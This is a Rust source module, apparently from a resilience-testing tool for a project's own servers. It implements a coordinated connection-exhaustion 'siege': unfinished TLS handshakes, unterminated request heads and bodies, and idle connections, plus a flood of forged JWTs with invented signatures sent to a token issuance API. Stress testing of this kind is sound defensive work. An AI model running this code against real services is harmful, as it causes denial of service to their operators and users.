//! A siege: the program holds all connections that a server accepts from one address, in different ways. Several
//! instances of this program besiege a server together, each from its own address.

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use anyhow::Result;
use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use futures::future::join_all;
use serde_json::json;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, timeout};

use crate::connection::{connect, exchange, tcp};
use crate::reviews::review;
use crate::transport::request_head;
use crate::{AttackTarget, ServerKind};

/// Number of connections of each kind to each server. The connections of all kinds together are as many as a server
/// accepts from one address.
const CONNECTIONS: usize = 12;
/// Pause before a connection that the server has ended is opened again.
const RECONNECT_AFTER: Duration = Duration::from_millis(500);
/// Length of a header that makes a request's head nearly as long as the servers allow.
const HEADER_BYTES: usize = 15_800;
/// Length of each body. It needs a part of the memory that the server has for all bodies.
const BODY_BYTES: usize = 200_000;

/// A way to hold a connection until the server ends it.
#[derive(Clone, Copy)]
enum HeldConnection {
    /// A connection without a TLS handshake.
    WithoutHandshake,
    /// A connection with the first part of a huge ClientHello.
    IncompleteHandshake,
    /// A request whose head does not end.
    IncompleteHead,
    /// A request whose body does not end.
    IncompleteBody,
    /// A valid request, after which the connection is idle.
    Idle,
}

const ALL_KINDS: [HeldConnection; 5] = [
    HeldConnection::WithoutHandshake,
    HeldConnection::IncompleteHandshake,
    HeldConnection::IncompleteHead,
    HeldConnection::IncompleteBody,
    HeldConnection::Idle,
];

/// Holds connections to every server for this duration. Prints how many connections the servers ended, and how many
/// invented tokens were sent.
pub(crate) async fn besiege(targets: &[AttackTarget], duration: Duration) {
    let end = Instant::now() + duration;
    let kinds = targets.iter().flat_map(|target| ALL_KINDS.map(|kind| (*target, kind)));
    let all = kinds.flat_map(|(target, kind)| (0..CONNECTIONS).map(move |_| hold_until(target, kind, end)));
    let tokens = targets.iter().map(|target| send_invented_tokens(*target, end));
    let (ended, sent) = tokio::join!(join_all(all), join_all(tokens));
    let (ended, sent): (usize, usize) = (ended.iter().sum(), sent.iter().sum());
    println!("siege\tthe servers ended {ended} connections, and got {sent} invented tokens");
}

/// Holds one connection at a time until `end`, and returns how many the server has ended.
async fn hold_until(target: AttackTarget, kind: HeldConnection, end: Instant) -> usize {
    let mut ended = 0;
    while let Some(rest) = end.checked_duration_since(Instant::now()) {
        if matches!(timeout(rest, hold(target, kind)).await, Ok(Ok(()))) {
            ended += 1;
        }
        sleep(RECONNECT_AFTER).await;
    }
    ended
}

/// Holds a connection, and returns when the server has ended it.
async fn hold(target: AttackTarget, kind: HeldConnection) -> Result<()> {
    match kind {
        HeldConnection::WithoutHandshake => wait_for_end(tcp(target.tls).await?).await,
        HeldConnection::IncompleteHandshake => {
            let mut stream = tcp(target.tls).await?;
            // The beginning of a ClientHello of 60,000 bytes, in a record of 16 KiB.
            let record = [&[22, 3, 1, 0x40, 0, 1, 0, 0xea, 0x60][..], &[0; 0x4000 - 4]].concat();
            stream.write_all(&record).await?;
            wait_for_end(stream).await;
        }
        HeldConnection::IncompleteHead => {
            let mut stream = connect(target, &["http/1.1"]).await?;
            let headers = format!("X-Long: {}", "x".repeat(HEADER_BYTES));
            let request = request_head(target, "POST", &headers);
            stream.write_all(request.get(..request.len() - 2).unwrap_or_default()).await?;
            stream.flush().await?;
            wait_for_end(stream).await;
        }
        HeldConnection::IncompleteBody => {
            let mut stream = connect(target, &["http/1.1"]).await?;
            stream
                .write_all(&request_head(target, "POST", &format!("Content-Length: {}\r\n", BODY_BYTES + 1)))
                .await?;
            stream.write_all(&vec![b' '; BODY_BYTES]).await?;
            stream.flush().await?;
            wait_for_end(stream).await;
        }
        HeldConnection::Idle => {
            let mut stream = connect(target, &["http/1.1"]).await?;
            let body =
                if target.server == ServerKind::Webhook { review().to_string() } else { String::new() };
            let head = request_head(target, "POST", &format!("Content-Length: {}\r\n", body.len()));
            stream.write_all(&[head, body.into_bytes()].concat()).await?;
            stream.flush().await?;
            wait_for_end(stream).await;
        }
    }
    Ok(())
}

/// Reads until the connection ends, with or without an error.
async fn wait_for_end(mut stream: impl AsyncRead + Unpin) {
    let mut buffer = [0; 4096];
    while let Ok(1..) = stream.read(&mut buffer).await {}
}

/// Sends invented tokens to the issuance API, one after the other. Only the API server can distinguish them from
/// valid ones. Returns how many were sent.
async fn send_invented_tokens(target: AttackTarget, end: Instant) -> usize {
    let mut sent = 0;
    while target.server == ServerKind::Controller && Instant::now() < end {
        let request =
            request_head(target, "POST", &format!("Authorization: Bearer {}\r\n", invented_token(sent)));
        let _ = exchange(target, &request).await;
        sent += 1;
    }
    sent
}

/// Returns a token with valid claims and an invented signature.
fn invented_token(number: usize) -> String {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
    let payload = json!({
        "aud": ["certmint.dev"], "exp": now + 3600, "sub": "system:serviceaccount:bad-input:default",
        "kubernetes.io": {
            "namespace": "bad-input",
            "pod": { "name": "payments", "uid": format!("invented-{number}") },
            "serviceaccount": { "name": "default", "uid": "invented" },
        },
    });
    let parts =
        [json!({ "alg": "RS256", "kid": "invented" }).to_string(), payload.to_string(), "x".repeat(256)];
    parts.map(|part| BASE64_URL_SAFE_NO_PAD.encode(part)).join(".")
}
